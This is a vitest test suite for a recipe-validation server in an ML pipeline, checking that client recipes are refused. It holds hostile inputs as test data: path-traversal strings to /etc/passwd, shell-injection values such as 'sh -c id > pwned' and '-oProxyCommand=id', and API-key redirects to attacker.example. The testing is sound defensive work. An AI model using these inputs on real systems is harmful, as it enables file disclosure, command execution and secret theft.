// biome-ignore-all lint/suspicious/noTemplateCurlyInString: they are references of the recipe, not of this file
import { mkdir, symlink, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { inspect } from 'node:util';
import { describe, expect, it } from 'vitest';
import { type Recipe, ValidateRecipeResponse } from '../../core/generated/simmer/control/v1/control.js';
import { type ControlHarness, curation, recipeText, startServer } from './control-harness.js';

async function problemsOf(harness: ControlHarness, recipe: Recipe | string) {
  const given = typeof recipe === 'string' ? recipeText(recipe) : recipe;
  return (await harness.client.validateRecipe({ recipe: given })).problems;
}

async function codesOf(harness: ControlHarness, recipe: Recipe | string): Promise<readonly string[]> {
  return (await problemsOf(harness, recipe)).map(({ code }) => code);
}

const stages = 'stages:\n  pool: { uses: curation/generate-problems, with: { count: 10 } }\n';
const trained = (trainer: object) =>
  `name: x\ntrainers: { t: ${JSON.stringify({ uses: 'torch-trainer/torch', ...trainer })} }\n${stages}`;
const torchrun = (options: object) => trained({ launcher: { uses: 'launchers/torchrun', with: options } });
const graded = (grader: object) => `name: x
${stages}  checked: { uses: curation/verify, with: { dataset: "\${{ stages.pool.dataset }}", grader: ${JSON.stringify(grader)} } }
`;

describe('a recipe of a client', () => {
  const load = (path: string) => `name: x
seed: 1
params: { here: ".", empty: "", file: "" }
stages:
  pool: { uses: curation/load, with: { sources: { mine: { path: ${JSON.stringify(path)} } } } }
`;

  it.each([
    '/etc/passwd',
    '../../../../../../etc/passwd',
    '${{ params.here }}/../../../../etc/passwd',
    '${{ params.empty }}/etc/passwd',
    '${{ params.here }}./x.jsonl',
    '~/secrets.jsonl',
    '~root/x',
    'file:///etc/passwd',
    'x://../../../../../../../../../../etc/passwd',
    'https://../../../../../../../../../../etc/passwd',
    '/et[c ]/passwd',
    '/et{c,c x}/passwd',
    '../../../../../../et[c]/passwd',
    '{a,../../../../../../etc}/passwd',
    '*/../../../../../../../etc/passwd',
    '..{/home,/x}/*',
    '..{/..{/..{/..{/..{/..{/etc,/x},/x},/x},/x},/x},/x}/passwd',
    '{x,}../passwd',
    'link/passwd',
    'a\0b',
  ])('cannot name the file %j', async (path) => {
    const harness = await startServer();
    await symlink('/etc', join(harness.folder, 'home', 'server', 'recipes', 'link'));
    const codes = await codesOf(harness, load(path));
    expect(codes).toContain('path_not_allowed');
    // Nothing else is said: not whether the file is there.
    expect(new Set(codes)).toEqual(new Set(['path_not_allowed']));
  });

  it('does not learn by its texts what folders and files there are', async () => {
    const harness = await startServer();
    const outside = join(harness.folder, 'some folder');
    const own = join(harness.folder, 'home', 'server', 'recipes');
    await mkdir(outside);
    await writeFile(join(outside, 'a file'), '');
    await symlink(outside, join(own, 'link'));
    const told = async (text: string) => codesOf(harness, `name: x\ndescription: ${JSON.stringify(text)}\n${stages}`);
    for (const text of [outside, join(outside, 'a file'), '../../../some folder', 'link', 'link/a file']) {
      expect(await told(text)).toEqual(['path_not_allowed']);
      expect(await told(`${text} that is not there/x y`)).toEqual(text === 'link' ? [] : ['path_not_allowed']);
    }
    expect(await told(`link/nothing`)).toEqual(['path_not_allowed']);
    for (const prose of [
      '/no_think Answer yes or/and no.',
      '// a and/or b',
      'a / b',
      'either/or, and so on',
      '1 .. 2/3',
    ]) {
      expect(await told(prose)).toEqual([]);
    }
  });

  it.each(['/a', '../', '/etc/..', 'a/', './'])('of many %j is read at once', async (part) => {
    const harness = await startServer();
    const before = process.cpuUsage();
    const text = part.repeat(240_000 / part.length);
    await problemsOf(harness, `name: x\ndescription: ${text}\n${stages}`);
    await problemsOf(harness, load(text));
    await problemsOf(harness, `name: x\nparams:\n${`  - ${part.repeat(1000)}\n`.repeat(50)}${stages}`);
    expect(process.cpuUsage(before).user / 1e6).toBeLessThan(5);
  });

  it('cannot bring in such a file by a param', async () => {
    const harness = await startServer();
    expect(
      await codesOf(harness, recipeText(load('${{ params.file }}'), { params: { file: '/etc/passwd' } })),
    ).toContain('path_not_allowed');
    const dataFile = load('${{ params.data }}').replace(
      'params: {',
      'params: { data: { dataFile: "../../etc/passwd" },',
    );
    expect(await codesOf(harness, dataFile)).toContain('path_not_allowed');
  });

  it('may name files below the roots that the owner allows', async () => {
    const roots = await startServer();
    const root = join(roots.folder, 'allowed');
    await mkdir(root);
    await writeFile(join(root, 'rows.jsonl'), '{"question":"1 + 1?","answer":"2"}\n');
    await roots.stop();
    await roots.serve({ allowedRoots: [root] });
    expect(await codesOf(roots, load('rows.jsonl'))).not.toContain('path_not_allowed');
    expect(await codesOf(roots, load(join(root, 'rows.jsonl')))).not.toContain('path_not_allowed');
    expect(await codesOf(roots, load('../home/x'))).toContain('path_not_allowed');
  });

  it.each([
    './plugin.js',
    '/tmp/plugin.js',
    '../x',
    'express',
    'simmerkit/../../x',
    { command: ['sh', '-c', 'id'] },
    { plugin: 'express', secrets: ['SIMMER_SERVER_TOKEN'] },
  ])('cannot bring the plugin %j', async (plugin) => {
    const harness = await startServer();
    const text = curation.replace('stages:', `plugins: [${JSON.stringify(plugin)}]\nstages:`);
    expect(new Set(await codesOf(harness, text))).toEqual(new Set(['plugin_not_allowed']));
  });

  it('with thousands of problems gets an answer that clients can take, whatever long text they quote', async () => {
    const harness = await startServer();
    const sources = Array.from({ length: 400 }, (_, at) => `      s${at}: { path: "\${{ params.far }}" }\n`).join('');
    const far = `name: x\nparams: { far: a }\nstages:\n  pool:\n    uses: curation/load\n    with:\n     sources:\n${sources}`;
    const long = 'x'.repeat(30_000); // Of more than 16 million characters in all, nothing but that is told.
    for (const recipe of [recipeText(far, { params: { far: `/${long}` } }), recipeText(far, { fileName: long })]) {
      const answer = ValidateRecipeResponse.encode(await harness.client.validateRecipe({ recipe })).finish();
      expect(Math.log2(answer.length)).toSatisfy((bits: number) => bits > 16 && bits < 22);
    }
  });

  it('of a million lines is refused at once', async () => {
    const harness = await startServer({ limits: { messageBytes: 16 * 2 ** 20 } });
    const before = process.cpuUsage();
    const answer = await harness.client.validateRecipe({ recipe: recipeText('- 1\n'.repeat(1_000_000)) });
    expect(answer.problems).toMatchObject([{ code: 'recipe_too_large' }]);
    const lines = await harness.client.validateRecipe({ recipe: recipeText('\n'.repeat(100_000)) });
    expect(lines.problems).toMatchObject([{ code: 'recipe_too_large' }]);
    // Parsing it would take minutes.
    expect(process.cpuUsage(before).user / 1e6).toBeLessThan(5);
  });

  it('with more problems than a message of 4 MiB holds is answered with the first of them', async () => {
    const harness = await startServer();
    const keys = Array.from({ length: 19_000 }, (_, index) => `key-${index}: 1\n`).join('');
    const { problems, error } = await harness.client.validateRecipe({ recipe: recipeText(curation + keys) });
    expect(problems).toHaveLength(1000);
    expect(problems[999]).toMatchObject({ code: 'unknown_key', position: { line: 1006 } });
    expect(error).toMatchObject({ code: 'invalid_recipe', message: 'my.yaml has 19000 problems.' });
  });
});

describe('what the machine would run or load', () => {
  it.each([
    [
      'launchers/torchrun.nodeCommand',
      torchrun({ nodes: 2, nodeCommand: ['sh', '-c', 'id > pwned; echo {command}', 'sh'] }),
    ],
    ['launchers/torchrun.hosts', torchrun({ nodes: 2, hosts: ['-oProxyCommand=id'] })],
    ['launchers/torchrun.arguments', torchrun({ arguments: ['--no-python', 'touch', 'pwned2'] })],
    ['launchers/torchrun.rendezvous', torchrun({ nodes: 2, rendezvous: 'attacker.example:1' })],
    ['torch-trainer/torch.python', trained({ with: { python: 'sh' } })],
    ['torch-trainer/torch.accelerateConfig', trained({ with: { accelerateConfig: 'accelerate.yaml' } })],
    ['eval/math-verify.python', graded({ uses: 'eval/math-verify', with: { python: 'sh' } })],
    [
      'torch-trainer/base-model.python',
      'name: x\nstages: { base: { uses: torch-trainer/base-model, with: { source: "hf://a/b@0", python: sh } } }',
    ],
  ])('is no client’s to say: %s', async (option, text) => {
    const harness = await startServer();
    const refused = (await problemsOf(harness, text)).filter(({ code }) => code === 'option_not_allowed');
    expect(refused).toMatchObject([
      {
        hint: expect.stringContaining(`--allow-option ${option},`),
        position: { file: 'my.yaml', line: expect.any(Number), column: expect.any(Number) },
        path: expect.stringMatching(new RegExp(`\\.${option.split('.')[1]}$`)),
      },
    ]);
    await expect(harness.client.createRun({ requestId: 'r', recipe: recipeText(text) })).rejects.toMatchObject({
      code: 'invalid_recipe',
    });
  });

  it('may be the default, and may be given where the owner allows it', async () => {
    const harness = await startServer({ allowedOptions: ['launchers/torchrun.hosts'] });
    expect(await codesOf(harness, torchrun({ processesPerNode: 2 }))).not.toContain('option_not_allowed');
    expect(await codesOf(harness, torchrun({ nodes: 2, hosts: ['b'] }))).not.toContain('option_not_allowed');
    expect(await codesOf(harness, torchrun({ arguments: [] }))).toContain('option_not_allowed');
  });

  it('cannot be brought in by a param, nor beside the text', async () => {
    const harness = await startServer();
    const text = trained({ with: { python: '${{ params.python }}' } }).replace(
      'name: x',
      'name: x\nparams: { python: }',
    );
    expect(await codesOf(harness, recipeText(text, { params: { python: 'sh' } }))).toContain('option_not_allowed');
    const overrides = { 'trainers.t.with.python': 'sh' };
    expect(await codesOf(harness, recipeText(trained({}), { overrides }))).toContain('option_not_allowed');
  });
});

describe('a recipe of the owner', () => {
  const owners = `name: x
params: { program: { default: python3 }, count: 10, file: rows.jsonl }
trainers: { t: { uses: torch-trainer/torch, with: { python: "\${{ params.program }}" } } }
stages:
  pool: { uses: curation/generate-problems, with: { count: "\${{ params.count }}" } }
  loaded: { uses: curation/load, with: { sources: { rows: { path: "\${{ params.file }}" } } } }
  checked:
    uses: curation/verify
    with:
      dataset: "\${{ stages.pool.dataset }}"
      grader: { uses: eval/judge, with: { url: "https://api.example.com/v1", apiKeyVariable: MYAUTH, model: m } }
`;
  async function startWithRecipe() {
    const harness = await startServer();
    const recipes = join(harness.folder, 'recipes');
    await mkdir(recipes);
    await writeFile(join(recipes, 'owners.yaml'), owners);
    await writeFile(join(recipes, 'rows.jsonl'), '{"question":"1 + 1?","answer":"2"}\n');
    await harness.stop();
    await harness.serve({ recipeFolders: [recipes] });
    return harness;
  }
  const named = (given: Partial<Recipe> = {}) => ({
    source: { $case: 'name', value: 'owners' } as const,
    fileName: '',
    params: {},
    overrides: {},
    ...given,
  });
  const judge = 'stages.checked.with.grader.with';

  it('may say all of this by itself, and clients may change the rest of it', async () => {
    const harness = await startWithRecipe();
    expect(await codesOf(harness, named())).toEqual([]);
    expect(await codesOf(harness, named({ params: { count: '5' }, overrides: { [`${judge}.model`]: 'n' } }))).toEqual(
      [],
    );
  });

  it.each([
    ['option_not_allowed', { params: { program: 'sh' } }],
    ['option_not_allowed', { overrides: { 'trainers.t.with.python': 'sh' } }],
    ['option_not_allowed', { overrides: { 'trainers.t.with': '{ python: sh }' } }],
    [
      'option_not_allowed',
      { overrides: { 'trainers.t.launcher': '{ uses: launchers/torchrun, with: { hosts: [a] } }' } },
    ],
    ['path_not_allowed', { params: { file: '/etc/passwd' } }],
    ['path_not_allowed', { overrides: { 'stages.loaded.with.sources.rows.path': '../../etc/passwd' } }],
    ['plugin_not_allowed', { overrides: { plugins: '[{ command: [sh, -c, id] }]' } }],
    ['plugin_not_allowed', { overrides: { plugins: '[]' } }],
    ['plugin_not_allowed', { overrides: { plugins: 'null' } }],
    ['option_not_allowed', { overrides: { 'params.program.default': 'sh' } }],
    ['option_not_allowed', { overrides: { 'params.program': '{ default: sh }' } }],
    ['option_not_allowed', { overrides: { params: '{ count: 3, file: rows.jsonl, program: sh }' } }],
    ['secret_not_allowed', { overrides: { [`${judge}.url`]: 'http://attacker.example' } }],
    ['secret_not_allowed', { overrides: { [`${judge}.apiKeyVariable`]: 'OTHER' } }],
    ['secret_not_allowed', { overrides: { [judge]: '{ url: "http://a.example", apiKeyVariable: MYAUTH, model: m }' } }],
  ])('is held to %s in what a client gives beside it: %j', async (code, given) => {
    const harness = await startWithRecipe();
    expect(new Set(await codesOf(harness, named(given)))).toEqual(new Set([code]));
  });
});

describe('a secret of the server', () => {
  const asking = (options: object) =>
    `name: x\n${stages}  asked: { uses: curation/distill, with: ${JSON.stringify({ dataset: '${{ stages.pool.dataset }}', model: 'm', ...options })} }\n`;
  const attack = { url: 'http://attacker.example/v1', apiKeyVariable: 'MYAUTH' };

  it.each([
    ['curation/distill', asking(attack)],
    ['eval/judge', graded({ uses: 'eval/judge', with: { ...attack, model: 'm' } })],
    [
      'a preview of eval/judge',
      `name: x\n${stages}  asked: { uses: budget-forcing/generate, with: ${JSON.stringify({ preview: { uses: 'eval/judge', with: { ...attack, model: 'm' } } })} }\n`,
    ],
    [
      'budget-forcing/openai-compatible',
      `name: x\n${stages}  asked: { uses: budget-forcing/openai-compatible, with: ${JSON.stringify({ ...attack, model: 'm', problems: '${{ stages.pool.dataset }}' })} }\n`,
    ],
  ])('is not sent where a client says, by %s', async (_uses, text) => {
    const harness = await startServer();
    const refused = (await problemsOf(harness, text)).filter(({ code }) => code === 'secret_not_allowed');
    expect(refused).toMatchObject([
      {
        message: expect.stringContaining('variable MYAUTH to http://attacker.example/v1.'),
        hint: expect.stringContaining('--allow-secret MYAUTH=http://attacker.example/v1'),
        position: { file: 'my.yaml', line: 4, column: expect.any(Number) },
      },
    ]);
  });

  it('is sent where its owner allows it', async () => {
    const harness = await startServer({ allowedSecrets: ['MYAUTH=https://api.example.com/v1'] });
    const url = 'https://api.example.com/v1';
    expect(await codesOf(harness, asking({ ...attack, url }))).toEqual([]);
    expect(await codesOf(harness, asking(attack))).toContain('secret_not_allowed');
    expect(await codesOf(harness, asking({ url, apiKeyVariable: 'PATH' }))).toContain('secret_not_allowed');
  });

  it('is never the server’s own', async () => {
    await expect(startServer({ allowedSecrets: ['SIMMER_SERVER_TOKEN'] })).rejects.toMatchObject({
      code: 'wrong_secret',
    });
    const harness = await startServer();
    const [problem] = await problemsOf(harness, asking({ ...attack, apiKeyVariable: 'SIMMER_SERVER_TOKEN' }));
    expect(problem).toMatchObject({
      code: 'secret_not_allowed',
      hint: expect.stringContaining('for the server alone'),
    });
  });

  it.each(['my.own/key-of-letters', 'a1b2c3d4e5f60718293a4b5c6d7e8f90'])(
    'is not told back where it stands in the place of its name: %s',
    async (key) => {
      const harness = await startServer({ allowedPlugins: ['some-plugin'] });
      const url = 'https://api.example.com/v1';
      const byName = asking({ url, apiKeyVariable: 'MYAUTH' });
      const judged = { uses: 'eval/judge', with: { ...attack, apiKeyVariable: key, model: 'm' } };
      const set = (path: string, value = key) => recipeText(byName, { overrides: { [path]: value } });
      for (const recipe of [
        recipeText(asking({ url, apiKeyVariable: key, modle: 'x' })),
        recipeText(graded(judged)),
        set('stages.asked.with.apiKeyVariable'),
        set('stages.asked.with', `{ dataset: "\${{ stages.pool.dataset }}", apiKeyVariable: ${key}, modle: x }`),
        set('plugins', `[{ plugin: some-plugin, secrets: [${key}] }]`),
        recipeText(`params: { key: ${key} }\n${asking({ url, apiKeyVariable: '${{ params.key }}' })}`),
        recipeText(`params: { key: x }\n${asking({ url, apiKeyVariable: '${{ params.key }}' })}`, { params: { key } }),
        recipeText(`plugins: [{ plugin: some-plugin, secrets: [FREE, ${key}] }]\n${byName}`),
      ]) {
        const answer = await harness.client.validateRecipe({ recipe });
        expect(answer.problems.map(({ code }) => code)).toEqual(['secret_in_recipe']);
        expect(JSON.stringify(answer)).not.toContain(key);
        for (const call of [
          harness.client.planRecipe({ recipe }),
          harness.client.createRun({ requestId: 'x', recipe }),
        ]) {
          const error: unknown = await call.then(
            () => undefined,
            (thrown: unknown) => thrown,
          );
          expect(error).toMatchObject({ code: 'invalid_recipe', problems: [{ code: 'secret_in_recipe' }] });
          expect(inspect(error, { depth: 9 })).not.toContain(key);
        }
      }
    },
  );

  it('is given to a plugin only where it may be sent anywhere', async () => {
    const harness = await startServer({
      allowedPlugins: ['some-plugin'],
      allowedSecrets: ['FREE', 'BOUND=https://a.example'],
    });
    const listing = (plugin: object) =>
      `name: x\nplugins: [${JSON.stringify({ plugin: 'some-plugin', ...plugin })}]\n${stages}`;
    expect(await codesOf(harness, listing({ secrets: ['FREE'] }))).toEqual(['plugin_not_found']);
    for (const secret of ['BOUND', 'OTHER', 'SIMMER_SERVER_TOKEN'])
      expect(await codesOf(harness, listing({ secrets: [secret] }))).toEqual(['secret_not_allowed']);
    expect(await codesOf(harness, listing({ secrets: ['FREE'], limits: {} }))).toEqual(['plugin_not_allowed']);
  });
});

it('a glob of a client’s recipe that could hold up the server is refused', async () => {
  const harness = await startServer();
  const [problem] = await problemsOf(
    harness,
    "name: x\nstages: { a: { uses: curation/load, with: { sources: { rows: { path: '*a*a*a*a*a*a*a*a*b' } } } } }",
  );
  expect(problem).toMatchObject({ code: 'invalid_glob', hint: expect.stringContaining('at most four') });
});

it('a file of a client’s recipe that is not there is looked for on the server, and the client is told how it gets there', async () => {
  const harness = await startServer();
  const [problem] = await problemsOf(
    harness,
    'name: x\nstages: { a: { uses: curation/load, with: { sources: { rows: { path: rows.jsonl } } } } }',
  );
  expect(problem).toMatchObject({
    code: 'missing_file',
    hint: expect.stringMatching(/^The server looks below .*\/server\/recipes, .* --allow-root /),
  });
});
